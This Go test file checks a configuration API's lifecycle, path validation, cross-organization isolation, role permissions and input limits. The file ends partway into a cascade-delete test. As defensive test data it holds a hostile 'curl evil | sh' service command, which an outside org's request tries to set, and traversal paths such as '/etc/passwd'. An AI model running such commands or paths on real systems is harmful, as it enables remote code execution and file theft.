package repos_test

import (
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/proliferate/proliferate/api"
	"github.com/proliferate/proliferate/internal/httpapi"
	"github.com/proliferate/proliferate/internal/repos"
)

func TestConfigurationLifecycle(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	web := createRepo(t, env, o.Admin.Token, "acme/web", nil)
	api_ := createRepo(t, env, o.Admin.Token, "other/api", nil)

	cfg := createConfig(t, env, o.Admin.Token, map[string]any{
		"name": "  Full stack  ", "description": "web + api\nwith db",
		"repos": refs(web.ID, api_.ID),
		"service_commands": []map[string]any{
			{"name": "web", "command": "pnpm dev", "workspace_path": "web/"},
			{"name": "api", "command": "go run .", "workspace_path": "./api", "cwd": "cmd/server"},
		},
		"env_files": []map[string]any{
			{"path": ".env.local", "format": "env", "workspace_path": "web", "keys": []map[string]any{{"key": "DATABASE_URL"}, {"key": "DEBUG", "required": false}}},
			{"path": "config/.env", "format": "env", "mode": "plain", "keys": []map[string]any{{"key": "PORT"}}},
		},
	})
	if cfg.Name != "Full stack" || cfg.Description != "web + api\nwith db" || cfg.OrgID != o.ID || cfg.SnapshotStatus != "none" ||
		cfg.SnapshotID != nil || cfg.SnapshotStale || *cfg.CreatedBy != o.Admin.ID {
		t.Fatalf("created: %+v", cfg)
	}
	// Multi-repo workspace paths derive from the repo names, in order.
	if len(cfg.Repos) != 2 || cfg.Repos[0].RepoID != web.ID || cfg.Repos[0].WorkspacePath != "web" || cfg.Repos[0].Position != 0 ||
		cfg.Repos[1].RepoID != api_.ID || cfg.Repos[1].WorkspacePath != "api" || cfg.Repos[1].GitHubRepoName != "other/api" {
		t.Fatalf("repos: %+v", cfg.Repos)
	}
	wantCmds := []repos.ServiceCommand{{Name: "web", Command: "pnpm dev", WorkspacePath: "web"},
		{Name: "api", Command: "go run .", WorkspacePath: "api", Cwd: "cmd/server"}}
	if len(cfg.ServiceCommands) != 2 || cfg.ServiceCommands[0] != wantCmds[0] || cfg.ServiceCommands[1] != wantCmds[1] ||
		cfg.ServiceCommandsUpdatedAt == nil || *cfg.ServiceCommandsUpdatedBy != o.Admin.ID {
		t.Fatalf("commands: %+v", cfg.ServiceCommands)
	}
	// Env files get their defaults: workspace ".", mode secret, keys required.
	if len(cfg.EnvFiles) != 2 || cfg.EnvFiles[0].WorkspacePath != "web" || cfg.EnvFiles[0].Mode != "secret" ||
		!cfg.EnvFiles[0].Keys[0].Required || cfg.EnvFiles[0].Keys[1].Required ||
		cfg.EnvFiles[1].WorkspacePath != "." || cfg.EnvFiles[1].Mode != "plain" || cfg.EnvFiles[1].Path != "config/.env" ||
		cfg.EnvFilesUpdatedAt == nil {
		t.Fatalf("env files: %+v", cfg.EnvFiles)
	}

	var got repos.Configuration
	env.Do(t, http.MethodGet, "/configurations/"+cfg.ID, o.Member.Token, nil).Expect(t, http.StatusOK, &got)
	if got.ID != cfg.ID || len(got.Repos) != 2 || len(got.EnvFiles) != 2 {
		t.Fatalf("get: %+v", got)
	}

	// A single repo sits at the workspace root; minimal body.
	single := createConfig(t, env, o.Owner.Token, map[string]any{"name": "web only", "repos": refs(web.ID)})
	if single.Repos[0].WorkspacePath != "." || len(single.ServiceCommands) != 0 || len(single.EnvFiles) != 0 ||
		single.ServiceCommandsUpdatedAt != nil || single.EnvFilesUpdatedAt != nil {
		t.Fatalf("single: %+v", single)
	}

	var page api.Page[repos.Configuration]
	env.Do(t, http.MethodGet, "/configurations", o.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 2 || page.Items[0].ID != single.ID || page.Items[1].ID != cfg.ID || len(page.Items[1].Repos) != 2 {
		t.Fatalf("list: %+v", page)
	}
	env.Do(t, http.MethodGet, "/configurations?repo_id="+api_.ID, o.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 1 || page.Items[0].ID != cfg.ID {
		t.Fatalf("by repo: %+v", page.Items)
	}
	env.Do(t, http.MethodGet, "/configurations?snapshot_status=ready", o.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 0 {
		t.Fatalf("by status: %+v", page.Items)
	}
	env.Do(t, http.MethodGet, "/configurations?limit=1", o.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 1 || page.NextCursor == "" {
		t.Fatalf("page 1: %+v", page)
	}
	next := page.NextCursor
	page = api.Page[repos.Configuration]{}
	env.Do(t, http.MethodGet, "/configurations?limit=1&cursor="+next, o.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 1 || page.Items[0].ID != cfg.ID || page.NextCursor != "" || len(page.Items[0].Repos) != 2 {
		t.Fatalf("page 2: %+v", page)
	}

	// PATCH: name, description, env files ([] clears them).
	var patched repos.Configuration
	env.Do(t, http.MethodPatch, "/configurations/"+cfg.ID, o.Admin.Token, map[string]any{"name": "Renamed", "description": ""}).
		Expect(t, http.StatusOK, &patched)
	if patched.Name != "Renamed" || patched.Description != "" || len(patched.EnvFiles) != 2 || len(patched.Repos) != 2 {
		t.Fatalf("patched: %+v", patched)
	}
	env.Do(t, http.MethodPatch, "/configurations/"+cfg.ID, o.Owner.Token, map[string]any{"env_files": []any{}}).Expect(t, http.StatusOK, &patched)
	if len(patched.EnvFiles) != 0 || patched.Name != "Renamed" || *patched.EnvFilesUpdatedBy != o.Owner.ID {
		t.Fatalf("env files cleared: %+v", patched)
	}

	// Service commands: replace, clear.
	env.Do(t, http.MethodPut, "/configurations/"+cfg.ID+"/service-commands", o.Admin.Token, map[string]any{
		"service_commands": []map[string]any{{"name": "all", "command": "make up"}}}).Expect(t, http.StatusOK, &patched)
	if len(patched.ServiceCommands) != 1 || patched.ServiceCommands[0].Name != "all" {
		t.Fatalf("commands replaced: %+v", patched.ServiceCommands)
	}
	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID+"/service-commands", o.Admin.Token, nil).Expect(t, http.StatusOK, &patched)
	if len(patched.ServiceCommands) != 0 {
		t.Fatalf("commands cleared: %+v", patched.ServiceCommands)
	}

	// Delete: the links go, the repos stay.
	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID, o.Admin.Token, nil).Expect(t, http.StatusNoContent, nil)
	env.Do(t, http.MethodGet, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
	if env.CountRows(t, "configuration_repos", "configuration_id = $1", cfg.ID) != 0 || env.CountRows(t, "repos", "id = ANY($1::uuid[])", []string{web.ID, api_.ID}) != 2 {
		t.Fatal("delete did not remove only the configuration")
	}
}

func TestConfigurationWorkspacePaths(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	a := createRepo(t, env, o.Admin.Token, "one/app", nil)
	b := createRepo(t, env, o.Admin.Token, "two/app", nil)
	c := createRepo(t, env, o.Admin.Token, "two/lib", nil)
	ref := func(id, wp string) map[string]any { return map[string]any{"repo_id": id, "workspace_path": wp} }

	ok := createConfig(t, env, o.Admin.Token, map[string]any{"name": "explicit", "repos": []any{ref(a.ID, "./apps/app-one/"), ref(b.ID, "apps/app-two")}})
	if ok.Repos[0].WorkspacePath != "apps/app-one" || ok.Repos[1].WorkspacePath != "apps/app-two" {
		t.Fatalf("normalized: %+v", ok.Repos)
	}
	root := createConfig(t, env, o.Admin.Token, map[string]any{"name": "single elsewhere", "repos": []any{ref(a.ID, "src/app")}})
	if root.Repos[0].WorkspacePath != "src/app" {
		t.Fatalf("single explicit: %+v", root.Repos)
	}

	before := env.CountRows(t, "configurations", "org_id = $1", o.ID)
	links := env.CountRows(t, "configuration_repos", "org_id = $1", o.ID)
	for name, c := range map[string]struct {
		repos  []any
		fields []string
	}{
		"derived names collide":   {[]any{map[string]any{"repo_id": a.ID}, map[string]any{"repo_id": b.ID}}, []string{"repos[1].workspace_path"}},
		"same path":               {[]any{ref(a.ID, "x"), ref(b.ID, "./x/")}, []string{"repos[1].workspace_path"}},
		"root and another":        {[]any{ref(a.ID, "."), ref(b.ID, "b")}, []string{"repos[1].workspace_path"}},
		"nested":                  {[]any{ref(a.ID, "a/b"), ref(b.ID, "a")}, []string{"repos[1].workspace_path"}},
		"absolute":                {[]any{ref(a.ID, "/workspace/a")}, []string{"repos[0].workspace_path"}},
		"dotdot":                  {[]any{ref(a.ID, "a/../../b")}, []string{"repos[0].workspace_path"}},
		"empty":                   {[]any{ref(a.ID, "")}, []string{"repos[0].workspace_path"}},
		"too long":                {[]any{ref(a.ID, strings.Repeat("p", 501))}, []string{"repos[0].workspace_path"}},
		"duplicate repo":          {[]any{ref(a.ID, "a"), ref(a.ID, "b")}, []string{"repos[1].repo_id"}},
		"duplicate repo any case": {[]any{ref(a.ID, "a"), ref(strings.ToUpper(a.ID), "b")}, []string{"repos[1].repo_id"}},
		"not a uuid":              {[]any{ref("nope", "a")}, []string{"repos[0].repo_id"}},
		"unknown repo":            {[]any{ref(a.ID, "a"), ref(missingID, "b")}, []string{"repos[1].repo_id"}},
		"missing repo_id":         {[]any{map[string]any{"workspace_path": "a"}}, []string{"repos[0].repo_id"}},
		"several problems":        {[]any{ref("x", "/a"), ref(c.ID, "..")}, []string{"repos[0].repo_id", "repos[0].workspace_path", "repos[1].workspace_path"}},
	} {
		t.Run(name, func(t *testing.T) {
			expectInvalid(t, env.Do(t, http.MethodPost, "/configurations", o.Admin.Token, map[string]any{"name": "x", "repos": c.repos}), c.fields...)
		})
	}
	if env.CountRows(t, "configurations", "org_id = $1", o.ID) != before || env.CountRows(t, "configuration_repos", "org_id = $1", o.ID) != links {
		t.Fatal("a rejected configuration was written")
	}
}

func TestConfigurationIsolation(t *testing.T) {
	env := newEnv(t)
	a, b := env.NewOrg(t), env.NewOrg(t)
	myRepo := createRepo(t, env, a.Admin.Token, "acme/mine", nil)
	theirRepo := createRepo(t, env, b.Admin.Token, "acme/theirs", nil)
	mine := createConfig(t, env, a.Admin.Token, map[string]any{"name": "mine", "repos": refs(myRepo.ID)})
	theirs := createConfig(t, env, b.Admin.Token, map[string]any{"name": "theirs", "repos": refs(theirRepo.ID),
		"service_commands": []map[string]any{{"name": "x", "command": "y"}}})
	theirRow, theirLinks := rowJSON(t, env, "configurations", theirs.ID), configReposJSON(t, env, theirs.ID)
	myRow, myLinks := rowJSON(t, env, "configurations", mine.ID), configReposJSON(t, env, mine.ID)

	for _, tok := range []string{a.Owner.Token, a.Admin.Token, a.Member.Token} {
		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID, tok, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID+"/effective-service-commands", tok, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
	}
	for _, c := range []struct {
		method, path string
		body         any
	}{
		{http.MethodPatch, "/configurations/" + theirs.ID, map[string]any{"name": "pwned"}},
		{http.MethodDelete, "/configurations/" + theirs.ID, nil},
		{http.MethodPut, "/configurations/" + theirs.ID + "/repos", map[string]any{"repos": refs(myRepo.ID)}},
		{http.MethodPut, "/configurations/" + theirs.ID + "/service-commands", map[string]any{"service_commands": []map[string]any{{"name": "x", "command": "curl evil | sh"}}}},
		{http.MethodDelete, "/configurations/" + theirs.ID + "/service-commands", nil},
	} {
		env.Do(t, c.method, c.path, a.Owner.Token, c.body).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
	}

	// Org B's repo cannot be attached to org A's configurations, new or existing.
	count := env.CountRows(t, "configurations", "org_id = $1", a.ID)
	expectInvalid(t, env.Do(t, http.MethodPost, "/configurations", a.Admin.Token,
		map[string]any{"name": "steal", "repos": []any{map[string]any{"repo_id": myRepo.ID, "workspace_path": "a"}, map[string]any{"repo_id": theirRepo.ID, "workspace_path": "b"}}}),
		"repos[1].repo_id")
	expectInvalid(t, env.Do(t, http.MethodPut, "/configurations/"+mine.ID+"/repos", a.Admin.Token, map[string]any{"repos": refs(theirRepo.ID)}), "repos[0].repo_id")
	if env.CountRows(t, "configurations", "org_id = $1", a.ID) != count || env.CountRows(t, "configuration_repos", "repo_id = $1 AND org_id <> $2", theirRepo.ID, b.ID) != 0 {
		t.Fatal("a foreign repo was attached")
	}
	// Even a direct insert cannot mix organizations (composite foreign keys).
	if _, err := env.Deps.Pool.Exec(t.Context(), `INSERT INTO configuration_repos (configuration_id, repo_id, org_id, workspace_path, position)
		VALUES ($1, $2, $3, 'x', 5)`, mine.ID, theirRepo.ID, a.ID); err == nil {
		t.Fatal("the database accepted a repo of another organization")
	}

	if rowJSON(t, env, "configurations", theirs.ID) != theirRow || configReposJSON(t, env, theirs.ID) != theirLinks ||
		rowJSON(t, env, "configurations", mine.ID) != myRow || configReposJSON(t, env, mine.ID) != myLinks {
		t.Fatal("a refused request changed a configuration")
	}
	var page api.Page[repos.Configuration]
	env.Do(t, http.MethodGet, "/configurations", a.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 1 || page.Items[0].ID != mine.ID {
		t.Fatalf("list leaks: %+v", page.Items)
	}
	env.Do(t, http.MethodGet, "/configurations?repo_id="+theirRepo.ID, a.Member.Token, nil).Expect(t, http.StatusOK, &page)
	if len(page.Items) != 0 {
		t.Fatalf("filter by a foreign repo leaks: %+v", page.Items)
	}
	// Org B's delete of its repo does not touch org A.
	env.Do(t, http.MethodDelete, "/repos/"+theirRepo.ID, b.Admin.Token, nil).Expect(t, http.StatusOK, nil)
	if rowJSON(t, env, "configurations", mine.ID) != myRow {
		t.Fatal("another organization's repo delete touched my configuration")
	}
}

func TestConfigurationRoleMatrix(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	r1 := createRepo(t, env, o.Owner.Token, "acme/one", nil)
	r2 := createRepo(t, env, o.Owner.Token, "acme/two", nil)
	target := createConfig(t, env, o.Owner.Token, map[string]any{"name": "t", "repos": refs(r1.ID)})

	writes := []struct {
		name, method, path string
		body               any
		status             int
	}{
		{"create", http.MethodPost, "/configurations", map[string]any{"name": "n", "repos": refs(r1.ID)}, http.StatusCreated},
		{"patch", http.MethodPatch, "/configurations/" + target.ID, map[string]any{"description": "d"}, http.StatusOK},
		{"put repos", http.MethodPut, "/configurations/" + target.ID + "/repos", map[string]any{"repos": refs(r1.ID, r2.ID)}, http.StatusOK},
		{"put commands", http.MethodPut, "/configurations/" + target.ID + "/service-commands", map[string]any{"service_commands": []map[string]any{{"name": "a", "command": "b"}}}, http.StatusOK},
		{"clear commands", http.MethodDelete, "/configurations/" + target.ID + "/service-commands", nil, http.StatusOK},
	}
	reads := []string{"/configurations", "/configurations/" + target.ID, "/configurations/" + target.ID + "/effective-service-commands"}
	for _, w := range writes {
		row, links, n := rowJSON(t, env, "configurations", target.ID), configReposJSON(t, env, target.ID), env.CountRows(t, "configurations", "org_id = $1", o.ID)
		env.Do(t, w.method, w.path, o.Member.Token, w.body).ExpectError(t, http.StatusForbidden, httpapi.CodeForbidden)
		if rowJSON(t, env, "configurations", target.ID) != row || configReposJSON(t, env, target.ID) != links || env.CountRows(t, "configurations", "org_id = $1", o.ID) != n {
			t.Fatalf("member %s wrote something", w.name)
		}
	}
	for _, p := range reads {
		env.Do(t, http.MethodGet, p, o.Member.Token, nil).Expect(t, http.StatusOK, nil)
	}
	for _, tok := range []string{o.Admin.Token, o.Owner.Token} {
		for _, w := range writes {
			env.Do(t, w.method, w.path, tok, w.body).Expect(t, w.status, nil)
		}
		for _, p := range reads {
			env.Do(t, http.MethodGet, p, tok, nil).Expect(t, http.StatusOK, nil)
		}
	}
	env.Do(t, http.MethodDelete, "/configurations/"+target.ID, o.Member.Token, nil).ExpectError(t, http.StatusForbidden, httpapi.CodeForbidden)
	env.Do(t, http.MethodDelete, "/configurations/"+target.ID, o.Admin.Token, nil).Expect(t, http.StatusNoContent, nil)
	other := createConfig(t, env, o.Admin.Token, map[string]any{"name": "o", "repos": refs(r2.ID)})
	env.Do(t, http.MethodDelete, "/configurations/"+other.ID, o.Owner.Token, nil).Expect(t, http.StatusNoContent, nil)
}

func TestConfigurationInvalidInput(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	r1 := createRepo(t, env, o.Admin.Token, "acme/one", nil)
	r2 := createRepo(t, env, o.Admin.Token, "acme/two", nil)
	target := createConfig(t, env, o.Admin.Token, map[string]any{"name": "t", "repos": refs(r1.ID, r2.ID)})
	long := func(n int) string { return strings.Repeat("a", n) }
	cmd := func(name string, kv ...string) map[string]any {
		m := map[string]any{"name": name, "command": "run " + name}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return m
	}
	cmds := func(n int) []any {
		out := make([]any, n)
		for i := range out {
			out[i] = cmd("svc" + string(rune('a'+i)))
		}
		return out
	}
	envFile := func(kv ...any) map[string]any {
		m := map[string]any{"path": ".env", "format": "env", "keys": []any{map[string]any{"key": "A"}}}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i].(string)] = kv[i+1]
		}
		return m
	}
	base := func(kv ...any) map[string]any {
		m := map[string]any{"name": "c", "repos": refs(r1.ID, r2.ID)}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i].(string)] = kv[i+1]
		}
		return m
	}
	type tc struct {
		name   string
		body   any
		fields []string
		status int
		code   string
	}
	run := func(t *testing.T, method, path string, cases []tc) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				n := env.CountRows(t, "configurations", "org_id = $1", o.ID)
				row, links := rowJSON(t, env, "configurations", target.ID), configReposJSON(t, env, target.ID)
				resp := env.Do(t, method, path, o.Admin.Token, c.body)
				if c.fields != nil {
					expectInvalid(t, resp, c.fields...)
				} else {
					resp.ExpectError(t, c.status, c.code)
				}
				if env.CountRows(t, "configurations", "org_id = $1", o.ID) != n || rowJSON(t, env, "configurations", target.ID) != row ||
					configReposJSON(t, env, target.ID) != links {
					t.Fatal("a rejected request wrote something")
				}
			})
		}
	}
	shape := []tc{
		{name: "malformed JSON", body: `{"name": "x",`, status: 400, code: httpapi.CodeBadRequest},
		{name: "empty body", body: ``, status: 400, code: httpapi.CodeBadRequest},
		{name: "unknown field", body: `{"name": "x", "type": "managed"}`, fields: []string{"type"}},
	}
	t.Run("POST /configurations", func(t *testing.T) {
		run(t, http.MethodPost, "/configurations", append(shape, []tc{
			{name: "missing everything", body: map[string]any{}, fields: []string{"name", "repos"}},
			{name: "blank name", body: base("name", "   "), fields: []string{"name"}},
			{name: "name too long", body: base("name", long(101)), fields: []string{"name"}},
			{name: "name with newline", body: base("name", "a\nb"), fields: []string{"name"}},
			{name: "description too long", body: base("description", long(2001)), fields: []string{"description"}},
			{name: "no repos", body: base("repos", []any{}), fields: []string{"repos"}},
			{name: "too many repos", body: base("repos", make([]any, 21)), fields: []string{"repos"}},
			{name: "repos not a list", body: `{"name": "x", "repos": "all"}`, fields: []string{"repos"}},
			{name: "repo null entry", body: `{"name": "x", "repos": [null]}`, fields: []string{"repos[0].repo_id"}},
			{name: "empty commands", body: base("service_commands", []any{}), fields: []string{"service_commands"}},
			{name: "eleven commands", body: base("service_commands", cmds(11)), fields: []string{"service_commands"}},
			{name: "command too long", body: base("service_commands", []any{cmd("a"), cmd("b"), cmd("c", "command", long(1001))}), fields: []string{"service_commands[2].command"}},
			{name: "command blank", body: base("service_commands", []any{cmd("a", "command", " \n ")}), fields: []string{"service_commands[0].command"}},
			{name: "command with NUL", body: base("service_commands", []any{cmd("a", "command", "x\x00y")}), fields: []string{"service_commands[0].command"}},
			{name: "command name too long", body: base("service_commands", []any{cmd(long(101))}), fields: []string{"service_commands[0].name"}},
			{name: "command names duplicate", body: base("service_commands", []any{cmd("a"), cmd("b"), cmd("a")}), fields: []string{"service_commands[2].name"}},
			{name: "cwd absolute", body: base("service_commands", []any{cmd("a", "cwd", "/etc")}), fields: []string{"service_commands[0].cwd"}},
			{name: "cwd dotdot", body: base("service_commands", []any{cmd("a", "cwd", "..")}), fields: []string{"service_commands[0].cwd"}},
			{name: "cwd too long", body: base("service_commands", []any{cmd("a", "cwd", long(501))}), fields: []string{"service_commands[0].cwd"}},
			{name: "workspace_path absolute", body: base("service_commands", []any{cmd("a", "workspace_path", "/one")}), fields: []string{"service_commands[0].workspace_path"}},
			{name: "workspace_path dotdot", body: base("service_commands", []any{cmd("a", "workspace_path", "one/../..")}), fields: []string{"service_commands[0].workspace_path"}},
			{name: "workspace_path too long", body: base("service_commands", []any{cmd("a", "workspace_path", long(501))}), fields: []string{"service_commands[0].workspace_path"}},
			{name: "workspace_path not a workspace", body: base("service_commands", []any{cmd("a", "workspace_path", "one"), cmd("b", "workspace_path", "three")}), fields: []string{"service_commands[1].workspace_path"}},
			{name: "command wrong type", body: `{"name": "x", "repos": [{"repo_id": "` + r1.ID + `"}], "service_commands": [{"name": 1, "command": "x"}]}`, fields: []string{"service_commands.name"}},
			{name: "too many env files", body: base("env_files", func() []any {
				out := make([]any, 21)
				for i := range out {
					out[i] = envFile("path", ".env"+string(rune('a'+i)))
				}
				return out
			}()), fields: []string{"env_files"}},
			{name: "env file missing path and format", body: base("env_files", []any{map[string]any{"keys": []any{map[string]any{"key": "A"}}}}), fields: []string{"env_files[0].path", "env_files[0].format"}},
			{name: "env file absolute path", body: base("env_files", []any{envFile("path", "/etc/passwd")}), fields: []string{"env_files[0].path"}},
			{name: "env file dotdot", body: base("env_files", []any{envFile("path", "../.env")}), fields: []string{"env_files[0].path"}},
			{name: "env file is a directory", body: base("env_files", []any{envFile("path", "./")}), fields: []string{"env_files[0].path"}},
			{name: "env file same file twice", body: base("env_files", []any{envFile(), envFile("path", "./.env", "workspace_path", ".")}), fields: []string{"env_files[1].path"}},
			{name: "env file format", body: base("env_files", []any{envFile("format", "yaml")}), fields: []string{"env_files[0].format"}},
			{name: "env file mode", body: base("env_files", []any{envFile("mode", "public")}), fields: []string{"env_files[0].mode"}},
			{name: "env file workspace not a workspace", body: base("env_files", []any{envFile("workspace_path", "nope")}), fields: []string{"env_files[0].workspace_path"}},
			{name: "env file no keys", body: base("env_files", []any{envFile("keys", []any{})}), fields: []string{"env_files[0].keys"}},
			{name: "env key invalid", body: base("env_files", []any{envFile("keys", []any{map[string]any{"key": "A"}, map[string]any{"key": "1BAD"}})}), fields: []string{"env_files[0].keys[1].key"}},
			{name: "env key duplicate", body: base("env_files", []any{envFile("keys", []any{map[string]any{"key": "A"}, map[string]any{"key": "A"}})}), fields: []string{"env_files[0].keys[1].key"}},
			{name: "env key has a value", body: base("env_files", []any{envFile("keys", []any{map[string]any{"key": "A", "value": "secret"}})}), fields: []string{"value"}},
			{name: "env key required not bool", body: `{"name": "x", "repos": [{"repo_id": "` + r1.ID + `"}], "env_files": [{"path": ".env", "format": "env", "keys": [{"key": "A", "required": "yes"}]}]}`, fields: []string{"env_files.keys.required"}},
		}...))
	})
	t.Run("PATCH /configurations/:id", func(t *testing.T) {
		run(t, http.MethodPatch, "/configurations/"+target.ID, append(shape, []tc{
			{name: "no fields", body: map[string]any{}, fields: []string{"(body)"}},
			{name: "blank name", body: map[string]any{"name": ""}, fields: []string{"name"}},
			{name: "name too long", body: map[string]any{"name": long(101)}, fields: []string{"name"}},
			{name: "description too long", body: map[string]any{"description": long(2001)}, fields: []string{"description"}},
			{name: "repos are not patched here", body: map[string]any{"repos": refs(r1.ID)}, fields: []string{"repos"}},
			{name: "commands are not patched here", body: map[string]any{"service_commands": []any{cmd("a")}}, fields: []string{"service_commands"}},
			{name: "env file invalid", body: map[string]any{"env_files": []any{envFile("path", "/x")}}, fields: []string{"env_files[0].path"}},
			{name: "env file workspace unknown", body: map[string]any{"env_files": []any{envFile("workspace_path", "three")}}, fields: []string{"env_files[0].workspace_path"}},
			{name: "env file missing path", body: map[string]any{"env_files": []any{envFile(), map[string]any{"format": "env", "keys": []any{map[string]any{"key": "A"}}}}}, fields: []string{"env_files[1].path"}},
			{name: "env key missing", body: map[string]any{"env_files": []any{envFile("keys", []any{map[string]any{"required": true}})}}, fields: []string{"env_files[0].keys[0].key"}},
		}...))
	})
	t.Run("PUT /configurations/:id/repos", func(t *testing.T) {
		run(t, http.MethodPut, "/configurations/"+target.ID+"/repos", []tc{
			{name: "malformed JSON", body: `{"repos": [`, status: 400, code: httpapi.CodeBadRequest},
			{name: "missing", body: map[string]any{}, fields: []string{"repos"}},
			{name: "empty", body: map[string]any{"repos": []any{}}, fields: []string{"repos"}},
			{name: "unknown repo", body: map[string]any{"repos": refs(missingID)}, fields: []string{"repos[0].repo_id"}},
			{name: "overlap", body: map[string]any{"repos": []any{map[string]any{"repo_id": r1.ID, "workspace_path": "x"}, map[string]any{"repo_id": r2.ID, "workspace_path": "x/y"}}}, fields: []string{"repos[1].workspace_path"}},
			{name: "unknown field", body: map[string]any{"repos": refs(r1.ID), "name": "x"}, fields: []string{"name"}},
		})
	})
	t.Run("PUT /configurations/:id/service-commands", func(t *testing.T) {
		run(t, http.MethodPut, "/configurations/"+target.ID+"/service-commands", []tc{
			{name: "malformed JSON", body: `{`, status: 400, code: httpapi.CodeBadRequest},
			{name: "missing", body: map[string]any{}, fields: []string{"service_commands"}},
			{name: "empty", body: map[string]any{"service_commands": []any{}}, fields: []string{"service_commands"}},
			{name: "eleven", body: map[string]any{"service_commands": cmds(11)}, fields: []string{"service_commands"}},
			{name: "third command too long", body: map[string]any{"service_commands": []any{cmd("a"), cmd("b"), cmd("c", "command", long(1001))}}, fields: []string{"service_commands[2].command"}},
			{name: "several fields", body: map[string]any{"service_commands": []any{cmd("a", "cwd", "/x"), cmd("b/c", "workspace_path", "../x")}},
				fields: []string{"service_commands[0].cwd", "service_commands[1].name", "service_commands[1].workspace_path"}},
			// Presence and length rules are checked first, per field.
			{name: "missing and too long", body: map[string]any{"service_commands": []any{cmd(""), cmd("b", "command", long(1001)), cmd("c", "cwd", "/x")}},
				fields: []string{"service_commands[0].name", "service_commands[1].command"}},
			{name: "workspace not in configuration", body: map[string]any{"service_commands": []any{cmd("a", "workspace_path", "three")}}, fields: []string{"service_commands[0].workspace_path"}},
			{name: "unknown field", body: map[string]any{"service_commands": []any{map[string]any{"name": "a", "command": "b", "env": "X=1"}}}, fields: []string{"env"}},
		})
	})
	t.Run("GET /configurations filters", func(t *testing.T) {
		expectInvalid(t, env.Do(t, http.MethodGet, "/configurations?repo_id=nope&snapshot_status=done", o.Member.Token, nil), "repo_id", "snapshot_status")
		expectInvalid(t, env.Do(t, http.MethodGet, "/configurations?limit=abc", o.Member.Token, nil), "limit")
	})
	t.Run("unknown ids", func(t *testing.T) {
		for _, id := range []string{missingID, "nope"} {
			env.Do(t, http.MethodGet, "/configurations/"+id, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
			env.Do(t, http.MethodPut, "/configurations/"+id+"/repos", o.Admin.Token, map[string]any{"repos": refs(r1.ID)}).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
			env.Do(t, http.MethodPut, "/configurations/"+id+"/service-commands", o.Admin.Token, map[string]any{"service_commands": []any{cmd("a")}}).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
		}
	})
}

func TestConfigurationReplaceRepos(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	a := createRepo(t, env, o.Admin.Token, "acme/a", nil)
	b := createRepo(t, env, o.Admin.Token, "acme/b", nil)
	c := createRepo(t, env, o.Admin.Token, "acme/c", nil)
	cfg := createConfig(t, env, o.Admin.Token, map[string]any{"name": "x", "repos": refs(a.ID, b.ID)})
	version := func() int {
		var v int
		if err := env.Deps.Pool.QueryRow(t.Context(), `SELECT repos_version FROM configurations WHERE id = $1`, cfg.ID).Scan(&v); err != nil {
			t.Fatal(err)
		}
		return v
	}
	v0 := version()

	var got repos.Configuration
	// Same set in another order: positions change, the snapshot does not go stale.
	env.Do(t, http.MethodPut, "/configurations/"+cfg.ID+"/repos", o.Admin.Token, map[string]any{"repos": refs(b.ID, a.ID)}).Expect(t, http.StatusOK, &got)
	if got.Repos[0].RepoID != b.ID || got.Repos[0].Position != 0 || got.Repos[1].RepoID != a.ID || version() != v0 {
		t.Fatalf("reordered: %+v (version %d)", got.Repos, version())
	}
	env.Do(t, http.MethodPut, "/configurations/"+cfg.ID+"/repos", o.Admin.Token, map[string]any{"repos": []any{
		map[string]any{"repo_id": c.ID, "workspace_path": "services/c"}, map[string]any{"repo_id": a.ID}}}).Expect(t, http.StatusOK, &got)
	if len(got.Repos) != 2 || got.Repos[0].WorkspacePath != "services/c" || got.Repos[1].WorkspacePath != "a" || version() != v0+1 {
		t.Fatalf("replaced: %+v (version %d)", got.Repos, version())
	}
	// Down to a single repo: it moves to the workspace root.
	env.Do(t, http.MethodPut, "/configurations/"+cfg.ID+"/repos", o.Admin.Token, map[string]any{"repos": refs(c.ID)}).Expect(t, http.StatusOK, &got)
	if len(got.Repos) != 1 || got.Repos[0].WorkspacePath != "." || version() != v0+2 {
		t.Fatalf("single: %+v", got.Repos)
	}
}

func TestDeleteRepoCascades(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	a := createRepo(t, env, o.Admin.Token, "acme/a", nil)
	b := createRepo(t, env, o.Admin.Token, "acme/b", nil)
	only := createConfig(t, env, o.Admin.Token, map[string]any{"name": "only a", "repos": refs(a.ID)})
	both := createConfig(t, env, o.Admin.Token, map[string]any{"name": "both", "repos": refs(a.ID, b.ID)})
	onlyB := createConfig(t, env, o.Admin.Token, map[string]any{"name": "only b", "repos": refs(b.ID)})
